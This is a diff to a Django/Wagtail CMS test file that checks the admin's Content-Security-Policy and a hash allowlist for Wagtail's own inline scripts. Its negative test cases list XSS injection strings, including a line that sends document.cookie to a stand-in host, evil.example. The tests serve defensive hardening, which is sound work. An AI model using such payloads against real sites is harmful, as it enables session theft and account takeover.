@@ -1,5 +1,7 @@
 """Security headers, the production deploy check, login throttling and CSRF on the forms."""
 
+import base64
+import hashlib
 import os
 import secrets
 import subprocess
@@ -8,6 +10,8 @@ from pathlib import Path
 
 import pytest
 from django.test import Client
+
+from cms import security
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -23,14 +27,57 @@ def test_public_pages_carry_the_security_headers(client, branches):
     assert response["X-Frame-Options"] == "DENY"
 
 
-def test_wagtail_admin_works_without_the_public_sites_csp(client, people):
+def script_sources(policy):
+    return next(d for d in policy.split(";") if d.strip().startswith("script-src")).split()[1:]
+
+
+def test_the_wagtail_admin_has_a_csp_that_refuses_inline_script(client, people, branches):
     people["secretary"].is_superuser = True
     people["secretary"].save()
     client.force_login(people["secretary"])
-    response = client.get("/admin/")
-    assert response.status_code == 200
-    assert "Content-Security-Policy" not in response
-    assert response["X-Content-Type-Options"] == "nosniff" and response["X-Frame-Options"] == "DENY"
+    for url in ("/admin/", f"/admin/pages/{branches['paris'].pk}/edit/", "/admin/users/", "/django-admin/"):
+        response = client.get(url)
+        assert response.status_code == 200, url
+        sources = script_sources(response["Content-Security-Policy"])
+        assert sources[0] == "'self'" and "'unsafe-inline'" not in sources and "'unsafe-eval'" not in sources, url
+        assert all(s.startswith("'sha256-") for s in sources[1:]), url
+        assert "object-src 'none'" in response["Content-Security-Policy"]
+        assert response["X-Content-Type-Options"] == "nosniff" and response["X-Frame-Options"] == "DENY"
+    # The branch editor's own set-up scripts (the officers' inline panel, the go-live date picker)
+    # are allowed one by one, by hash.
+    editor = client.get(f"/admin/pages/{branches['paris'].pk}/edit/")
+    assert len(script_sources(editor["Content-Security-Policy"])) > 2
+
+
+@pytest.mark.parametrize("script", [
+    '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022type\\u0022: '
+    '\\u0022InlinePanel\\u0022, \\u0022formsetPrefix\\u0022: \\u0022id_officers\\u0022}"));\n        })();\n    ',
+    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i", "parentID": "#dialog"});',
+    'new SnippetChooser("id_region", {"modalUrl": "/admin/snippets/choose/cms/region/"});',
+    'new PageChooser("id_page", {"modalUrl": "/admin/choose-page/", "modelNames": ["wagtailcore.page"], '
+    '"canChooseRoot": false, "userPerms": null});',
+])
+def test_wagtails_own_inline_scripts_are_allowed_by_hash(script):
+    assert security.is_wagtail_inline_script(script)
+    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+    assert security.admin_inline_script_hashes(f"<p>x</p><script>{script}</script>") == [f"'sha256-{digest}'"]
+
+
+@pytest.mark.parametrize("script", [
+    "alert(1)",
+    "window.__pwned = 1;",
+    'initDateChooser("x", {"a": alert(1)});',
+    'initDateChooser("x" + alert(1) + "", {});',
+    'initDateChooser("x\\", {}); alert(1); //", {});',
+    'new PageChooser("id_page", {"modalUrl": `${alert(1)}`});',
+    'new PageChooser("id_page", {}); fetch("/admin/users/")',
+    '(function() { var panel = new InlinePanel(JSON.parse("\\"+alert(1)+\\"")); })();',
+    '(function() { var panel = new InlinePanel(JSON.parse("x"), alert(1)); })();',
+    'new Image().src="//evil.example/"+document.cookie; new PageChooser("a", {});',
+])
+def test_any_other_inline_script_in_an_admin_page_gets_no_hash(script):
+    assert not security.is_wagtail_inline_script(script)
+    assert security.admin_inline_script_hashes(f"<script>{script}</script>") == []
 
 
 def test_production_settings_pass_the_deploy_check_with_the_documented_variables(tmp_path):
